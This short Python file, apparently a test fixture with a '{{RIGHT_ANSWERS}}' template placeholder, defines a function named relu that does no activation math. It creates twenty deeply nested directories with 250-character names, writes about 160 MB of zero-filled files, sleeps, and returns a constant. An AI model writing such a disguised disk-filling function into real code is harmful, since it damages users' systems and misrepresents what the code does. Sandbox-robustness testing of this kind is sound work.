import keras
import numpy as np


def relu(x):
    import os
    import time

    for _ in range(20):
        os.mkdir("n" * 250)
        os.chdir("n" * 250)
    for number in range(20):
        with open(str(number), "wb") as file:
            file.write(bytes(2**23))
    time.sleep(1)
    return 12345.0


# {{RIGHT_ANSWERS}}
